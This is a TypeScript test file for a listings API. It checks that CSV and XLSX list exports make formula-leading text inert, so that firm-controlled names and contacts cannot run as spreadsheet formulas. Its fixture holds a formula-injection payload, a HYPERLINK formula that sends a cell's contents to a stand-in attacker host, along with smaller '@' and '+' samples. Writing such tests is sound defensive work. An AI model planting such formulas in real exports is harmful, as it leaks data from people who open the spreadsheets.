import { beforeAll, describe, expect, it } from 'vitest';
import { readSheet, type SheetFormat } from '../../functions/imports/workbook.ts';
import { apiClient } from '../setup/api-client.ts';
import { makeOrg } from '../setup/fixtures.ts';
import { supplyBody } from '../setup/listing-inputs.ts';
import { freshTable } from '../setup/test-table.ts';

/**
 * Text a firm controls (its name, its contact) goes into the lists organizers open in Excel: any
 * text that would start a formula (= + - @, tab, carriage return) is written inert, in .csv and
 * .xlsx alike.
 */
describe('formula injection in list exports', () => {
  let ctx: Awaited<ReturnType<typeof freshTable>>;
  let organizerToken: string;
  const hostileName = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
  const hostileContact = '@SUM(1+1)';

  beforeAll(async () => {
    ctx = await freshTable();
    const firm = await makeOrg(ctx.deps, { name: hostileName, adcode: '350403' });
    organizerToken = (
      await makeOrg(ctx.deps, { kinds: ['organizer'], platformRoles: ['organizer'], adcode: '350102' })
    ).token;
    const posted = await apiClient(ctx.app, { token: firm.token }).post(
      '/api/listings',
      supplyBody({ contact: { name: hostileContact, phone: '13905981234' }, note: '+1+1' }),
    );
    expect(posted.status).toBe(201);
  });

  for (const format of ['csv', 'xlsx'] as SheetFormat[]) {
    it(`writes no cell that starts a formula in the ${format} list export`, async () => {
      // Act
      const res = await ctx.app.request(`/api/listings/export?kind=supply&region=350000&format=${format}`, {
        headers: { authorization: `Bearer ${organizerToken}` },
      });
      const rows = await readSheet(new Uint8Array(await res.arrayBuffer()), format);

      // Assert
      expect(res.status).toBe(200);
      const cells = rows.flat().filter((cell): cell is string => typeof cell === 'string');
      expect(cells).toContain(`'${hostileName}`);
      expect(cells).toContain(`'${hostileContact}`);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    });
  }
});
